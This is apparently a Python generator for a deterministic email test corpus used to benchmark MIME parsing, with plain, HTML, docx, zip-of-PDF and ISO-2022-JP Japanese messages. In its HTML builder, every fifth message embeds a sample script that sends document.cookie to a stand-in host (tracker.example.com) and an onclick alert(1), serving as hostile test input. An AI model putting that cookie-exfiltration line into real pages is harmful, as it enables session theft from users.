"""A deterministic mail corpus for the MIME benchmark (.eml files, built with the email
package, CRLF line ends).

Kinds (see ``specs``), one message per file:

- ``plain``: text/plain, half of them US-ASCII English (7bit), half UTF-8 Japanese
  (base64), 1–4 kB;
- ``html``: multipart/alternative, a text part and an HTML part (UTF-8: a table, links,
  inline styles, a remote tracking pixel; every fifth one also a ``<script>`` and an
  ``onclick`` handler), 5–20 kB;
- ``docx``: multipart/mixed, a text part and a docx attachment (python-docx, some with a
  Japanese file name in RFC 2231 form), ~40–60 kB;
- ``zip-pdf``: multipart/mixed, a text part and a zip holding 2–3 text PDFs (pikepdf);
- ``iso-2022-jp``: text/plain; charset=ISO-2022-JP, 7bit, Japanese with the CP932
  extensions real mailers put in it (①, ㈱, 髙), encoded-word Subject and From name in
  ISO-2022-JP too.

Every message comes from a seed derived from its name, with fixed boundaries, dates and
Message-IDs, so the same spec always gives the same bytes. Files present with the size
recorded in ``manifest.json`` are reused; bump ``CORPUS_VERSION`` when a builder changes.
"""

from __future__ import annotations

import argparse
import base64
import io
import random
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from email.message import Message
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.policy import compat32
from email.utils import format_datetime, formataddr
from functools import cache
from pathlib import Path

from bench.common import OUT, Manifest, progress, write_atomic
from bench.officecorpus import docx_bytes
from bench.pdfcorpus import text_pdf_bytes

CORPUS_VERSION = 2
DEFAULT_ROOT = OUT / "mail"

PLAIN, HTML, DOCX, ZIP_PDF, JIS = "plain", "html", "docx", "zip-pdf", "iso-2022-jp"
KINDS = (PLAIN, HTML, DOCX, ZIP_PDF, JIS)
#: messages per kind in the full corpus (--quick: a fifth)
COUNTS = {PLAIN: 40, HTML: 25, DOCX: 15, ZIP_PDF: 15, JIS: 35}

_POLICY = compat32.clone(linesep="\r\n")
_EPOCH = 1_732_600_000  # 2024-11-26, the first message's Date
_JST = timezone(timedelta(hours=9))
_CONTENT_HEADERS = ("mime-version", "content-type", "content-transfer-encoding")
_JA_LINES = (
    "いつもお世話になっております。㈱関所商事の髙橋です。",
    "令和六年度の補助金交付申請について、下記のとおりご連絡いたします。",
    "① 申請書の提出期限は来月末日です。",
    "② 添付資料をご確認のうえ、担当者までご返信ください。",
    "③ 不明な点がございましたら、総務課までお問い合わせください。",
    "会議録の案を送付いたしますので、ご確認をお願いいたします。",
    "水道料金の改定に関するお知らせを掲載しました。",
    "よろしくお願いいたします。",
)
_EN_WORDS = ("meeting", "agenda", "report", "budget", "review", "schedule", "draft", "office",
             "project", "invoice", "delivery", "account", "notice", "update", "team", "plan")
_NAMES = (("髙橋 一郎", "takahashi"), ("山田 花子", "yamada"), ("㈱関所商事 営業部", "sales"),
          ("佐藤 次郎", "sato"), ("鈴木 三郎", "suzuki"))


@dataclass(frozen=True, slots=True)
class Spec:
    name: str
    kind: str
    build: Callable[[random.Random, int], Message]


@dataclass(frozen=True, slots=True)
class Entry:
    path: Path
    kind: str
    size: int

    @property
    def name(self) -> str:
        return self.path.name


# ------------------------------------------------------------------------ ISO-2022-JP


@cache
def _nec_selected() -> dict[str, bytes]:
    """Characters of CP932's NEC-selected IBM extensions (rows 89–92), by character:
    mailers write IBM extensions such as 髙 with these JIS-representable codes."""
    out: dict[str, bytes] = {}
    for lead in (0xED, 0xEE):
        for trail in range(0x40, 0xFD):
            try:
                out.setdefault(bytes((lead, trail)).decode("cp932"), bytes((lead, trail)))
            except UnicodeDecodeError:
                continue
    return out


def _sjis_to_jis(sjis: bytes) -> bytes:
    lead, trail = sjis[0], sjis[1]
    row = ((lead - 0x40 if lead >= 0xE0 else lead) - 0x81) * 2 + 0x21
    if trail >= 0x9F:
        return bytes((row + 1, trail - 0x7E))
    return bytes((row, trail - (0x20 if trail >= 0x80 else 0x1F)))


def iso2022jp(text: str) -> bytes:
    """``text`` in ISO-2022-JP as Japanese mailers write it (JIS X 0208 with the CP932
    NEC row 13 and NEC-selected IBM extensions); back to ASCII before every line end."""
    out, kanji = bytearray(), False
    for ch in text:
        if ch.isascii():
            if kanji:
                out += b"\x1b(B"
                kanji = False
            out += ch.encode("ascii")
            continue
        sjis = _nec_selected().get(ch) or ch.encode("cp932")
        if not kanji:
            out += b"\x1b$B"
            kanji = True
        out += _sjis_to_jis(sjis)
    if kanji:
        out += b"\x1b(B"
    return bytes(out)


def _encoded_words(text: str, chunk: int = 8) -> str:
    """An RFC 2047 header value: ISO-2022-JP B-encoded words of ``chunk`` characters."""
    return " ".join("=?ISO-2022-JP?B?" + base64.b64encode(iso2022jp(text[i:i + chunk]))
                    .decode("ascii") + "?=" for i in range(0, len(text), chunk))


# ---------------------------------------------------------------------------- content


def _ja_text(rng: random.Random, lines: int) -> str:
    return "\n".join(rng.choice(_JA_LINES) for _ in range(lines)) + "\n"


def _en_text(rng: random.Random, lines: int) -> str:
    return "\n".join(" ".join(rng.choice(_EN_WORDS) for _ in range(rng.randint(8, 14)))
                     .capitalize() + "." for _ in range(lines)) + "\n"


def _html(rng: random.Random, hostile: bool) -> str:
    rows = "".join(f"<tr><td style=\"padding:4px\">{rng.choice(_EN_WORDS)}</td>"
                   f"<td align=\"right\">{rng.randint(1, 99999):,}</td></tr>"
                   for _ in range(rng.randint(10, 60)))
    paras = "".join(f"<p style=\"font-size:14px;color:#333\">{line}</p>"
                    for line in _ja_text(rng, rng.randint(4, 12)).splitlines())
    extra = ("<script>document.location='https://tracker.example.com/?c='+document.cookie"
             "</script><a href=\"#\" onclick=\"alert(1)\">詳細</a>") if hostile else ""
    return ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><style>body{font-family:"
            "sans-serif}</style></head><body>" + paras
            + f"<table border=\"1\" cellspacing=\"0\">{rows}</table>"
            + "<p><a href=\"https://www.example.lg.jp/notice/"
            + f"{rng.randint(1000, 9999)}\">お知らせの詳細</a></p>" + extra
            + "<img src=\"https://news.example.com/open.gif?id="
            + f"{rng.randint(1, 10**9)}\" width=\"1\" height=\"1\"></body></html>")


def _zip_of_pdfs(rng: random.Random) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for i in range(rng.randint(2, 3)):
            info = zipfile.ZipInfo(f"report-{i + 1}.pdf", (2024, 11, 26, 9, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, text_pdf_bytes(rng, rng.randint(1, 4)))
    return buf.getvalue()


# --------------------------------------------------------------------------- messages


def _envelope(msg: Message, rng: random.Random, index: int, subject: str,
              from_name: str | None = None) -> Message:
    """The top-level headers a received message carries (deterministic), before the
    content headers the MIME classes set."""
    content = [(k, v) for k, v in msg.items() if k.lower() in _CONTENT_HEADERS]
    for key in _CONTENT_HEADERS:
        del msg[key]
    name, user = _NAMES[index % len(_NAMES)]
    sender = f"{user}@example.co.jp"
    when = format_datetime(datetime.fromtimestamp(_EPOCH + index * 617, UTC).astimezone(_JST))
    hop = f"from mx{rng.randint(1, 4)}.example.co.jp (mx.example.co.jp [192.0.2.{index % 250}])"
    msg["Return-Path"] = f"<{sender}>"
    msg["Received"] = f"{hop} by gw.example.lg.jp with ESMTPS id {rng.randbytes(6).hex()}; {when}"
    msg["Received"] = f"from [198.51.100.7] by mx.example.co.jp with ESMTPSA; {when}"
    msg["Message-ID"] = f"<{rng.randbytes(8).hex()}.{index}@example.co.jp>"
    msg["Date"] = when
    msg["From"] = from_name or formataddr((name, sender), charset="utf-8")
    msg["To"] = "soumu@example.lg.jp"
    msg["Subject"] = subject
    msg["MIME-Version"] = "1.0"
    for key, value in content:
        if key.lower() != "mime-version":
            msg[key] = value
    return msg


def _part(part: Message) -> Message:
    """A body part as mailers write it: no MIME-Version of its own."""
    del part["MIME-Version"]
    return part


def _boundary(rng: random.Random) -> str:
    return "----=_Part_" + rng.randbytes(10).hex()


def _plain(rng: random.Random, index: int) -> Message:
    if index % 2:
        part = MIMEText(_ja_text(rng, rng.randint(8, 40)), "plain", "utf-8")
        return _envelope(part, rng, index, f"Re: 補助金の申請について ({index})")
    part = MIMEText(_en_text(rng, rng.randint(10, 40)), "plain", "us-ascii")
    return _envelope(part, rng, index, f"Re: {rng.choice(_EN_WORDS)} {index}")


def _alternative(rng: random.Random, index: int) -> Message:
    msg = MIMEMultipart("alternative", boundary=_boundary(rng))
    msg.attach(_part(MIMEText(_ja_text(rng, 6), "plain", "utf-8")))
    msg.attach(_part(MIMEText(_html(rng, hostile=index % 5 == 0), "html", "utf-8")))
    return _envelope(msg, rng, index, f"【お知らせ】今月のニュースレター No.{index}")


def _with_attachment(rng: random.Random, index: int, payload: bytes, subtype: str,
                     filename: str, subject: str) -> Message:
    msg = MIMEMultipart("mixed", boundary=_boundary(rng))
    msg.attach(_part(MIMEText(_ja_text(rng, 5), "plain", "utf-8")))
    part = _part(MIMEApplication(payload, subtype))
    if filename.isascii():
        part.add_header("Content-Disposition", "attachment", filename=filename)
    else:
        part.add_header("Content-Disposition", "attachment", filename=("utf-8", "", filename))
    msg.attach(part)
    return _envelope(msg, rng, index, subject)


def _docx_mail(rng: random.Random, index: int) -> Message:
    name = f"申請書_{index:02d}.docx" if index % 3 == 0 else f"application-{index:02d}.docx"
    return _with_attachment(
        rng, index, docx_bytes(rng, rng.randint(10, 60)),
        "vnd.openxmlformats-officedocument.wordprocessingml.document", name,
        f"申請書の送付 ({index})")


def _zip_mail(rng: random.Random, index: int) -> Message:
    return _with_attachment(rng, index, _zip_of_pdfs(rng), "zip", f"reports-{index:02d}.zip",
                            f"報告書一式 ({index})")


def _jis_mail(rng: random.Random, index: int) -> Message:
    msg = Message()
    msg.set_payload(iso2022jp(_ja_text(rng, rng.randint(6, 30))).decode("ascii"))
    name, user = _NAMES[index % len(_NAMES)]
    from_name = f"{_encoded_words(name)} <{user}@example.co.jp>"
    _envelope(msg, rng, index, _encoded_words(f"①㈱関所商事 髙橋より ご連絡 No.{index}"),
              from_name)
    msg["Content-Type"] = 'text/plain; charset="ISO-2022-JP"'
    msg["Content-Transfer-Encoding"] = "7bit"
    return msg


_BUILDERS: dict[str, Callable[[random.Random, int], Message]] = {
    PLAIN: _plain, HTML: _alternative, DOCX: _docx_mail, ZIP_PDF: _zip_mail, JIS: _jis_mail,
}


# ------------------------------------------------------------------------------ specs


def specs(*, quick: bool = False) -> list[Spec]:
    """The mix, interleaved by kind (as mail arrives)."""
    counts = {k: max(1, n // 5) if quick else n for k, n in COUNTS.items()}
    longest = max(counts.values())
    return [Spec(f"{i:03d}-{kind}.eml", kind, _BUILDERS[kind])
            for i in range(longest) for kind in KINDS if i < counts[kind]]


def _seed(name: str) -> random.Random:
    return random.Random(f"sekisho-mail-bench-{CORPUS_VERSION}-{name}")


def _render(spec: Spec) -> bytes:
    msg = spec.build(_seed(spec.name), int(spec.name[:3]))
    return msg.as_bytes(policy=_POLICY)


def build(root: Path = DEFAULT_ROOT, *, quick: bool = False,
          log: Callable[[str], None] = print) -> list[Entry]:
    """Make (or reuse) the corpus under ``root``; returns its entries in spec order."""
    root.mkdir(parents=True, exist_ok=True)
    manifest = Manifest(root, CORPUS_VERSION)
    entries = []
    for spec in specs(quick=quick):
        size = manifest.size(spec.name)
        if size is None:
            log(f"  generating {spec.name}")
            size = write_atomic(root / spec.name, _render(spec))
            manifest.record(spec.name, size)
        entries.append(Entry(root / spec.name, spec.kind, size))
    return entries


def main(argv: Sequence[str] | None = None) -> int:
    """Build the corpus (progress on stderr) and list it on stdout."""
    p = argparse.ArgumentParser(prog="python -m bench.mailcorpus")
    p.add_argument("--quick", action="store_true")
    p.add_argument("--root", type=Path, default=DEFAULT_ROOT)
    args = p.parse_args(argv)
    for e in build(args.root, quick=args.quick, log=progress):
        print(f"{e.kind:<12} {e.size:>10,} {e.path}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
